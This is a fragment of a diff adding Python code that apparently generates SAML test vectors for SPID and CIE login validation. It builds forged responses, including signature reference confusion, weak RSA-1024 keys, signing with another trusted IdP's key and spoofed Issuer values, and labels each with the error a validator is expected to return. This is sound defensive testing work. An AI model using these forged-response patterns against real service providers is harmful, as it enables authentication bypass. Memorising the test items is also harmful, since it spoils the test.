+    g.invalid("the Response has no ID and its signature covers the whole document (URI=\"\"): a present Response signature must reference the Response's ID", f, "xmldsig.reference.invalid", ["ReferenceConfusion", "MissingElement"])
+    f = out.doc("two-assertion-signatures", "Response unsigned; the Assertion holds two valid Signatures by the IdP", A1,
+                edit=lambda R: R.find("Assertion").children.insert(2, Sig()))
+    g.add("two Signature children in the Assertion (both valid): exactly one is allowed; the code is not fixed by the spec (xmldsig.signature.invalid in the current core)", f, "invalid", flags=["ReferenceConfusion"])
+
+    g = vf.group(f"{RT_RESP} (RSA keys of at least 2048 bits); {SRC_SPEC} section 1.1", trust=["metadata/idp-weak.xml"])
+    pw = B.but(issuer=SPID_WEAK, name_qualifier=SPID_WEAK, key="rsa1024", cert="spid-weak")
+    f = out.doc("weak-idp-key", f"a Response of {SPID_WEAK} signed with its 1024-bit key (certificate spid-weak in KeyInfo)", pw)
+    g.add("the IdP's only metadata key is RSA-1024: refused (at trust building or at verification; the code is not fixed)", f, "invalid", flags=["WeakAlgorithm"])
+
+    g = vf.group(f"SAML metadata 2.0 2.3.2 (EntitiesDescriptor); {SRC_SPEC} S4 (the Issuer selects the keys)", trust=["metadata/registry.xml"])
+    f = out.doc("cross-idp-key-keyinfo", f"Issuer {SPID_IDP}, both signatures by the second IdP's key with its certificate (spid-idp2) in KeyInfo", B.but(key="rsa4096", cert="spid-idp2"))
+    g.invalid("the Response names the first IdP but is signed by the second trusted IdP (its certificate in KeyInfo): only the named IdP's keys count", f, "xmldsig.key.untrusted", ["CrossIdpKey"])
+    f = out.doc("cross-idp-key-no-keyinfo", f"Issuer {SPID_IDP}, both signatures by the second IdP's key, no KeyInfo", B.but(key="rsa4096", cert=None))
+    g.invalid("the same without KeyInfo: the first IdP's key does not verify", f, "xmldsig.signature.invalid", ["CrossIdpKey"])
+    f = out.doc("cross-idp-response-issuer", f"the Response Issuer names the second IdP, the Assertion Issuer the first; everything signed by the first IdP", B.but(issuer=SPID_IDP2, a_issuer=SPID_IDP))
+    g.invalid("the Response Issuer names another trusted IdP than the Assertion Issuer (which selected the keys and verified)", f, "saml.issuer.invalid", ["IssuerSpoofing", "CrossIdpKey"])
+    f = out.doc("cross-idp-assertion-issuer", f"the Assertion Issuer names the second IdP, the Response Issuer the first; everything signed by the first IdP (certificate in KeyInfo)", B.but(a_issuer=SPID_IDP2))
+    g.invalid("the Assertion Issuer names the second IdP, so only its keys may verify; the first IdP's certificate in KeyInfo is not one of them", f, "xmldsig.key.untrusted", ["IssuerSpoofing", "CrossIdpKey"])
+
+
+# ------------------------------------------------------------------ main (provisional)
+
+SPID_CONTEXT = {"sp_entity_id": SP, "acs_url": ACS, "request_id": SPID_REQ, "min_level": "SpidL2", "comparison": "minimum",
+                "request_issue_instant": SPID_REQ_II, "now": SPID_NOW, "clock_skew_seconds": 0, "input_encoding": "xml"}
+CIE_CONTEXT = {"sp_entity_id": SP, "acs_url": ACS, "request_id": CIE_REQ, "min_level": "SpidL3", "comparison": "exact",
+               "request_issue_instant": CIE_REQ_II, "now": CIE_NOW, "clock_skew_seconds": 0, "input_encoding": "xml"}
+
+
+def make_outputs():
+    init_keys()
+    md = metadata_files()
+    spid = Out("spid-saml", "spid", "spid", SPID_DEFAULTS, SPID_CONTEXT)
+    for name in ("idp.xml", "idp2.xml", "registry.xml", "idp-rollover.xml", "idp-weak.xml"):
+        spid.put("metadata/" + name, md[name][0].encode("utf-8"), md[name][1])
+    spid_cases(spid)
+    input_cases(spid)
+    envelope_cases(spid)
+    signature_cases(spid)
+    outs = [spid]
+    if "cie_cases" in globals():
+        cie = Out("cie-saml", "cie", "cie", CIE_DEFAULTS, CIE_CONTEXT)
+        cie.put("metadata/cie-idp.xml", md["cie-idp.xml"][0].encode("utf-8"), md["cie-idp.xml"][1])
+        cie_cases(cie)
+        outs.append(cie)
+    return outs
+
+
+def explain(out):
+    for vf in out.vfiles:
+        for g in vf.groups:
+            for t in g.tests:
+                code, step, why = t["_model"]
+                print(f"{out.folder}/{vf.name} {t['tcId']:3} {t['result']:10} {t.get('expectedError', ''):32} -> {code:32} {step:5} {why[:90]}")
+
+
+def main():
+    outs = make_outputs()
+    bad = []
+    for out in outs:
+        problems, stats = self_check(out)
+        if "--explain" in sys.argv:
+            explain(out)
+        bad += problems
+        n = sum(len(g.tests) for vf in out.vfiles for g in vf.groups)
+        print(f"{out.folder}: {n} cases, {len(out.files)} files, {stats['signatures']} signatures verified by the model")
+    for b in bad:
+        print("SELF-CHECK:", b)
+    if bad:
+        sys.exit(1)
+
+
+if __name__ == "__main__":
+    main()
